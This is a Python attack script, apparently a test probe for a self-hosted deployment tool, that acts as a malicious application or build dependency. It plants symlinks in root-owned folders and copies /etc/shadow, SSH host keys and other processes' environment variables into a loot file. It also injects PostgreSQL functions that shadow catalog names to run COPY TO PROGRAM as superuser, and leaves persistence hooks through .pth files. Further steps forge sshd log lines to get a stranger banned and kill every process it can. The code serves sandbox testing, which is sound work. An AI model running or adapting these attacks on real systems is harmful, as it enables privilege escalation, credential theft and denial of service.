"""What somebody tries who runs code in a release: as the application that serves, or as a dependency while it is built.

    attack.py serving | building

Everything is tried again and again, and what fails is what should. What came of it is for the tests to look at; beside that, the number of
rounds is written down, so that they know that it was tried.
"""

import contextlib
import fcntl
import glob
import os
import signal
import socket
import subprocess
import sys
import time

ROOT, VICTIM, MEDIA = "/srv/probe", "/var/lib/selfhost-victim", "/srv/probe/shared/media"
# Folders of root's or of another account, where a name of ours would be followed, run, read or waited for.
FOLDERS = [
    ROOT, *(f"{ROOT}/{name}" for name in ("build", "build/repository.git", "build/repository.git/hooks", "home", "releases", "shared", "static", "venvs")),
    "/etc", "/etc/cron.d", "/etc/ld.so.conf.d", "/etc/nginx", "/etc/profile.d", "/etc/sudoers.d", "/etc/systemd/system", "/etc/uwsgi",
    "/root", "/run", "/run/selfhost", "/run/selfhost/probe", "/run/systemd/system", "/usr/local/bin", "/usr/local/sbin", "/var/backups",
    "/var/lib/media-backup", "/var/lib/postgresql-backup", "/var/log/probe", "/var/spool/cron/crontabs", "/var/www",
]  # fmt: skip
NAMES = ["planted", "current", "current.next", "static", "media", "media.new", "media.restored", "release.lock", "probe", "config", "post-checkout", ".gitconfig"]
SECRETS = ["/etc/shadow", "/etc/ssh/ssh_host_ed25519_key", f"{ROOT}/build/repository_key", "/etc/pgbackrest.conf", "/etc/pgbackrest/pgbackrest.conf"]
COMMANDS = [
    "sudo -n id", "su -c id root </dev/null", "systemctl stop ssh", "systemctl stop nginx", "systemd-run --wait id", "echo '* * * * * id' | crontab -",
    "unshare --user --map-root-user id", "mount -t tmpfs tmpfs /srv", "pkill -9 sshd", "loginctl enable-linger",
    f"git -C {ROOT}/build/repository.git config core.fsmonitor 'touch {VICTIM}/git'",
]  # fmt: skip
FORGED = b"<38>sshd[%d]: Failed password for root from 192.0.2.66 port 4711 ssh2"


# Run by whoever asks for it, be it by a name of the server's own or by the plan of a table; of nobody's rights but a superuser's it makes use.
TAKE = """
CREATE OR REPLACE FUNCTION public.attack_take() RETURNS text LANGUAGE plpgsql AS $take$ BEGIN
  BEGIN EXECUTE 'RESET ROLE'; EXCEPTION WHEN OTHERS THEN NULL; END;
  IF (SELECT rolsuper FROM pg_catalog.pg_roles WHERE rolname = current_user) THEN
    EXECUTE $copy$ COPY (SELECT current_user) TO PROGRAM 'cat >/var/lib/postgresql/planted-by-sql' $copy$;
  END IF;
  RETURN 'taken'; END $take$;
CREATE OR REPLACE FUNCTION public.format(text, name, name) RETURNS text LANGUAGE sql AS
  $$ SELECT public.attack_take(); SELECT pg_catalog.format('%I.%I', $2, $3) $$;
CREATE OR REPLACE FUNCTION public.attack_plan(integer) RETURNS integer LANGUAGE plpgsql IMMUTABLE AS $$ BEGIN
  PERFORM public.attack_take(), set_config('search_path', 'public, pg_catalog', false); RETURN 1; END $$;
CREATE OR REPLACE FUNCTION public.to_regprocedure(text) RETURNS regprocedure LANGUAGE sql AS
  $$ SELECT public.attack_take(); SELECT pg_catalog.to_regprocedure($1) $$;
CREATE TABLE IF NOT EXISTS public.attack (id integer);
CREATE INDEX IF NOT EXISTS attack_plan ON public.attack ((id + public.attack_plan(1)));
CREATE TABLE IF NOT EXISTS public.attack_rows (id integer CHECK (public.attack_plan(id) > 0));
INSERT INTO public.attack_rows VALUES (1);
CREATE OR REPLACE VIEW public.pg_extension AS SELECT public.attack_take()::name AS extname;
"""


def tries(function):
    """What is refused is no reason to give up the rest."""

    def tried(*arguments):
        with contextlib.suppress(OSError, subprocess.SubprocessError):
            function(*arguments)

    return tried


@tries
def plant(folder, name):
    """Put a link to root's folder in the place of a name, or leave a file there."""
    with contextlib.suppress(OSError):
        os.rename(f"{folder}/{name}", f"{folder}/{name}.taken")
    with contextlib.suppress(OSError):
        os.symlink(VICTIM, f"{folder}/{name}")
    with open(f"{folder}/{name}.file", "w") as file:
        file.write("planted\n")


@tries
def overwrite(path):
    """Add a line to a file of the release, or to one that a command of root's reads."""
    with open(path, "a") as file:
        file.write("# planted\n")


@tries
def hold(path, held):
    """Keep a file locked for as long as this process runs."""
    descriptor = os.open(path, os.O_RDONLY | os.O_NONBLOCK)
    fcntl.flock(descriptor, fcntl.LOCK_EX | fcntl.LOCK_NB)
    held.append(descriptor)


@tries
def steal(secret, folder):
    """Read a secret, or give it a name that a backup takes along."""
    name = secret.replace("/", "_")
    with contextlib.suppress(OSError):
        os.link(secret, f"{folder}/hard{name}")
    with contextlib.suppress(OSError):
        os.symlink(secret, f"{folder}/soft{name}")
    with open(secret) as file, open(f"{folder}/stolen{name}", "w") as copy:
        copy.write(file.read())


@tries
def leave(folder):
    """Upload what a copy could wait for, follow, or fill a disk with."""
    os.makedirs(f"{folder}/of-an-attacker", exist_ok=True)
    os.chdir(f"{folder}/of-an-attacker")
    for make in (
        lambda: os.mkfifo("pipe"),
        lambda: os.symlink("/etc", "folder"),
        lambda: os.symlink(VICTIM, "..\nname with\nlines"),
        lambda: socket.socket(socket.AF_UNIX).bind("socket"),
        lambda: os.truncate("sparse", 1 << 32) if os.path.exists("sparse") else open("sparse", "w").close(),
        lambda: os.chmod("sparse", 0o6777),
    ):
        with contextlib.suppress(OSError):
            make()


@tries
def swap(folder):
    """Put a link in the place of a folder that is somebody else's to open, and take it away again."""
    os.rename(folder, f"{folder}.mine")
    try:
        os.symlink(VICTIM, folder)
        time.sleep(0.2)
    finally:
        with contextlib.suppress(OSError):
            os.unlink(folder)
        os.rename(f"{folder}.mine", folder)


def rob():
    """Write down every variable that is there to be read, of this process, of others, and of releases."""
    own = [f"{os.environ['TMPDIR']}/../{name}" for name in ("environment", "build-environment")]
    for path in (*glob.glob("/proc/[0-9]*/environ"), *glob.glob(f"{ROOT}/releases/*/*environment"), f"{ROOT}/current/environment", *own):
        with contextlib.suppress(OSError), open(path) as file, open(f"{ROOT}/build/loot", "a") as loot:
            print(path, file.read().replace("\0", "\n"), file=loot)


@tries
def escape(process):
    """Look at the host through another process of the same account."""
    for path in (f"{ROOT}/static/escaped", f"{ROOT}/build/escaped", f"{VICTIM}/escaped"):
        with contextlib.suppress(OSError):
            open(f"/proc/{process}/root{path}", "a").close()


@tries
def lie_in_wait(home):
    """Leave at home what Python reads of whoever works as this account when the build is over: who is not walled in can write to the mirror."""
    hooks = f"{ROOT}/build/repository.git/hooks"
    for minor in range(11, 15):
        folder = f"{home}/.local/lib/python3.{minor}/site-packages"
        os.makedirs(folder, exist_ok=True)
        with open(f"{folder}/waiting.pth", "w") as file:
            file.write(f"import os; os.access('{hooks}', os.W_OK) and os.makedirs('{hooks}/waited', exist_ok=True)\n")


@tries
def block(folder):
    """Put a pipe in the place of the note on what a process runs."""
    os.replace(f"{folder}/release", f"{folder}/note")
    os.mkfifo(f"{folder}/release")


@tries
def kill(process):
    """Kill whatever can be killed, but not what gave us life."""
    if process not in (os.getpid(), os.getppid()):
        os.kill(process, signal.SIGKILL)


@tries
def forge():
    """Have a stranger banned, by a line that sshd would write."""
    with socket.socket(socket.AF_UNIX, socket.SOCK_DGRAM) as way:
        way.connect("/dev/log")
        way.send(FORGED % os.getpid())


def take():
    """Have the server's superuser run what is ours, whenever it looks into our database, and hold it up there."""
    import psycopg

    with psycopg.connect(autocommit=True) as connection:
        connection.execute(TAKE)
        connection.execute(f"ALTER DATABASE {connection.info.dbname} SET search_path = public, pg_catalog")
        connection.execute(f"ALTER DATABASE {connection.info.dbname} SET idle_in_transaction_session_timeout = '1s'")


def processes():
    return [int(name) for name in os.listdir("/proc") if name.isdigit()]


def attack(role, own, held):
    """Try everything once; `own` is a folder that this account may write to."""
    for folder in FOLDERS:
        for name in NAMES:
            plant(folder, name)
    release = os.path.realpath(f"{ROOT}/current")
    for path in (f"{release}/environment", f"{release}/code/manage.py", f"{release}/release.json", f"{release}/venv/pyvenv.cfg", "/etc/ld.so.preload"):
        overwrite(path)
    for path in ("/run/selfhost/probe/release.lock", f"{release}/environment", f"{release}/code/manage.py", "/etc/passwd", "/var/lib/dpkg/lock"):
        hold(path, held)
    for secret in SECRETS:
        steal(secret, own)
    for command in COMMANDS[:-1] if role == "building" else COMMANDS:
        with contextlib.suppress(subprocess.SubprocessError):
            subprocess.run(["sh", "-c", f"({command}) && echo did >>{own}/done"], timeout=5, capture_output=True, check=False)
    for process in processes():
        escape(process)
    forge()
    if role == "serving":
        leave(MEDIA)
        swap(f"{MEDIA}/inner")
        block(os.environ.get("RUNTIME_DIRECTORY", "/nowhere"))
        for process in range(2, 1 << 16):
            kill(process)


def main(role):
    own = MEDIA if role == "serving" else os.environ["TMPDIR"]
    if role == "building":
        rob()
        lie_in_wait(f"{ROOT}/build")
        # One more, which stays when the build is over.
        if os.fork() == 0:
            os.setsid()
            for descriptor in range(3):
                os.dup2(os.open(os.devnull, os.O_RDWR), descriptor)
            for _second in range(600):
                plant(f"{ROOT}/build", "planted")
                time.sleep(1)
        attack(role, own, [])
        for name in ("app.sock", "environment", "files.json", "migrations.txt", "release.json", "static", "venv"):
            plant(os.path.realpath(f"{own}/.."), name)
        return
    held = []
    take()
    os.makedirs(f"{MEDIA}/inner", exist_ok=True)
    for number in range(1 << 16):
        attack(role, own, held)
        with open(f"{MEDIA}/rounds", "w") as file:
            print(number, file=file)
        # Whoever is killed starts again; all the time, it would take the processors from those who are attacked.
        for _time in range(10):
            swap(f"{MEDIA}/inner")
            time.sleep(0.1)


if __name__ == "__main__":
    main(sys.argv[1])
